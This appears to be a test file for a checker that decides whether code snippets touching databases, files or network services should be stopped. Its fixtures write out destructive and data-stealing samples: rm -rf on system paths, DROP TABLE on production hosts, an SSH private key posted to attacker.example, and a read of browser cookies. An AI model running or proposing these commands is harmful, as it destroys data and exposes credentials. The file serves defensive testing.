@@ -1,0 +1,88 @@
+/** Libraries for tests that stand in for services, databases that are only there while the program runs, and the real ones. */
+import { describe, expect, test } from "bun:test";
+import { wrong } from "./verdicts.ts";
+
+const check = (language: string, expected: "stopped" | "let through", programs: readonly string[]) =>
+  test(`${language}: ${expected}`, () => expect(wrong(language, programs, expected)).toEqual([]));
+
+describe("stand-ins", () => {
+  check("python", "let through", [
+    'import boto3\nfrom moto import mock_aws\n@mock_aws\ndef test():\n    boto3.client("s3").delete_bucket(Bucket="b")\ntest()',
+    'import boto3\nfrom moto import mock_aws\nwith mock_aws():\n    boto3.resource("s3").Bucket("b").delete()',
+    "import fakeredis\nr = fakeredis.FakeRedis()\nr.set('a', 1)\nr.flushall()",
+    'import mongomock\nmongomock.MongoClient().drop_database("db")',
+    'import requests, requests_mock\nwith requests_mock.Mocker() as m:\n    m.delete("https://api.github.com/repos/a/b")\n    requests.delete("https://api.github.com/repos/a/b")',
+    'import requests\ndef test_gone(requests_mock):\n    requests.delete("https://api.github.com/repos/a/b")',
+    "import dis\ndis.dis(compile(\"import os; os.system('rm -rf /')\", 'x', 'exec'))",
+  ]);
+  check("python", "stopped", [
+    // Around it, and behind it, the real ones are asked.
+    'import boto3\nfrom moto import mock_aws\n@mock_aws\ndef test():\n    pass\nboto3.client("s3").delete_bucket(Bucket="b")',
+    'import boto3\nfrom moto import mock_aws\nwith mock_aws():\n    pass\nboto3.client("s3").delete_bucket(Bucket="b")',
+    'import fakeredis, redis\nfake = fakeredis.FakeRedis()\nredis.Redis(host="cache.prod").flushall()',
+    'import requests, requests_mock\nrequests.delete("https://api.github.com/repos/a/b")',
+    "exec(compile(\"import os; os.system('rm -rf /')\", 'x', 'exec'))",
+    "import types\ntypes.FunctionType(compile(\"import os; os.system('rm -rf /')\", 'x', 'exec'), {})()",
+  ]);
+  check("javascript", "let through", [
+    'const Redis = require("ioredis-mock"); new Redis().set("a", 1).then((r) => r).then(() => new Redis().flushall());',
+    'const nock = require("nock"); nock("https://api.example.com").delete("/users/1").reply(204); require("axios").delete("https://api.example.com/users/1");',
+  ]);
+  check("javascript", "stopped", [
+    'const Redis = require("ioredis-mock"); new Redis().get("a").then(() => require("child_process").exec("rm -rf ~"));',
+    'const nock = require("nock"); nock("https://api.example.com").get("/").reply(200); require("axios").delete("https://api.other.example/users/1");',
+    'const nock = require("nock"); nock("https://attacker.example"); fetch("https://attacker.example/", { method: "POST", body: require("fs").readFileSync("/home/dev/.ssh/id_rsa") });',
+  ]);
+});
+
+describe("databases by what they are", () => {
+  check("python", "let through", [
+    'import sqlite3\nc = sqlite3.connect(":memory:")\nc.executescript("create table t(a); delete from t; drop table t")',
+    'from sqlalchemy import create_engine\nfrom models import Base\nBase.metadata.drop_all(create_engine("sqlite:///test.db"))',
+    'from sqlalchemy import create_engine, text\nwith create_engine("postgresql+psycopg://localhost/app_test").begin() as c:\n    c.execute(text("TRUNCATE users CASCADE"))',
+    'import psycopg2\nc = psycopg2.connect("dbname=app_test host=localhost").cursor()\nc.execute("DELETE FROM users")',
+  ]);
+  check("python", "stopped", [
+    'import sqlite3\nsqlite3.connect("app.db").execute("DELETE FROM users")',
+    'from sqlalchemy import create_engine\nfrom models import Base\nBase.metadata.drop_all(create_engine("postgresql://db.example.com/app"))',
+    'import os, sqlite3, psycopg\nsqlite3.connect(":memory:")\nwith psycopg.connect(os.environ["DATABASE_URL"]) as c:\n    c.execute("TRUNCATE users")',
+    'import psycopg2\npsycopg2.connect(host="db.example.com", dbname="app_test").cursor().execute("DELETE FROM users")',
+    'import sqlite3, os\nc = sqlite3.connect(os.path.expanduser("~/.mozilla/firefox/x.default/cookies.sqlite"))\nprint(c.execute("select * from moz_cookies").fetchall())',
+  ]);
+  check("ruby", "stopped", [
+    'require "pg"; PG.connect(host: "db.example.com", dbname: "app") { |c| c.exec("DROP TABLE users") }',
+  ]);
+  check("php", "let through", [
+    '$p = new PDO("sqlite::memory:"); $p->exec("create table t(a)"); $p->exec("drop table t");',
+  ]);
+  check("php", "stopped", [
+    '$p = new PDO("mysql:host=db.example.com;dbname=app"); $p->exec("DROP TABLE users");',
+  ]);
+});
+
+describe("places that are entered for a body", () => {
+  check("python", "stopped", [
+    'import contextlib, os\nwith contextlib.chdir("/etc"):\n    for n in os.listdir("."): os.remove(n)',
+    'import os\nfrom contextlib import contextmanager\n@contextmanager\ndef at(path):\n    old = os.getcwd()\n    os.chdir(path)\n    try:\n        yield\n    finally:\n        os.chdir(old)\nwith at("/etc"):\n    for n in os.listdir("."): os.remove(n)',
+  ]);
+  check("python", "let through", [
+    'import contextlib, os\nwith contextlib.chdir("/etc"):\n    print(os.listdir("."))\nos.remove("build.log")',
+  ]);
+});
+
+describe("objects and options", () => {
+  check("javascript", "stopped", [
+    'class Job { constructor(o) { Object.assign(this, { force: true }, o); } run() { require("fs").rmSync(this.dir, { recursive: this.force }); } } new Job({ dir: "/boot" }).run();',
+    'const { program } = require("commander"); program.option("-d, --dir <path>", "what", "build"); program.parse(["node", "x", "--dir", "/usr/bin"]); require("fs").rmSync(program.opts().dir, { recursive: true });',
+    'const argv = require("yargs/yargs")(["--root", "/etc"]).option("root", { type: "string" }).parse(); require("fs").rmSync(argv.root, { recursive: true });',
+  ]);
+  check("javascript", "let through", [
+    'const { program } = require("commander"); program.option("-d, --dir <path>", "what", "/etc"); program.parse(["node", "x", "--dir", "dist"]); require("fs").rmSync(program.opts().dir, { recursive: true });',
+  ]);
+  check("ruby", "stopped", [
+    'Task = Struct.new(:cmd, :args) do\n  def call = system(cmd, *args)\nend\n[Task.new("rm", ["-rf", "/home"])].each(&:call)',
+  ]);
+  check("php", "stopped", [
+    'foreach (["stop" => "true", "wipe" => "rm -rf /var/lib/mysql"] as $k => $c) { exec($c, $o, $r); }',
+  ]);
+});
